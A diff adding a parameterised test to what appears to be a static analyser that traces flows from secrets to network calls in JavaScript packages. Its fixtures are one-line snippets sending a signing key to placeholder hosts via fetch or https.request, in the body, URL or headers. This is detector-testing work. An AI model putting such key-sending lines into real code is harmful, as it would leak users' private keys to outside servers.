@@ -71,3 +71,18 @@ exports.g${at} = () => fetch('https://example.invalid', { method: 'POST', body: 
   expect(flows.length).toBeGreaterThan(40);
   expect(unread).toEqual([expect.stringContaining('too many ways through the package')]);
 });
+
+it.each([
+  [`fetch('https://user:word@API.example.invalid:8443/x?y', { body: key })`, ['api.example.invalid']],
+  [`fetch('//cdn.example.invalid', { body: key })`, ['cdn.example.invalid']],
+  [`require('https').request({ host: 'a.example.invalid', headers: { 'x-id': key } })`, ['a.example.invalid']],
+  [`fetch('https://192.0.2.7/' + key)`, []],
+  [`fetch('https://192.0.2.7/', { body: key })`, ['192.0.2.7']],
+  [`fetch(address, { body: key, headers: { 'x-file': 'index.js', accept: 'application/vnd.api+json' } })`, []],
+])('says which hosts a call is given as text: %s', async (send, expected) => {
+  const text = `exports.sign = (key, message, address) => { require('@noble/secp256k1').sign(message, key); ${send}; };`;
+  const { flows } = await analyseSources({ 'a.js': text });
+  const found = flows.filter(({ source, sink }) => source === 'key' && sink === 'network').flatMap(({ ends }) => ends);
+  expect(found).not.toEqual([]);
+  for (const { site } of found) expect(site.hosts).toEqual(expected);
+});
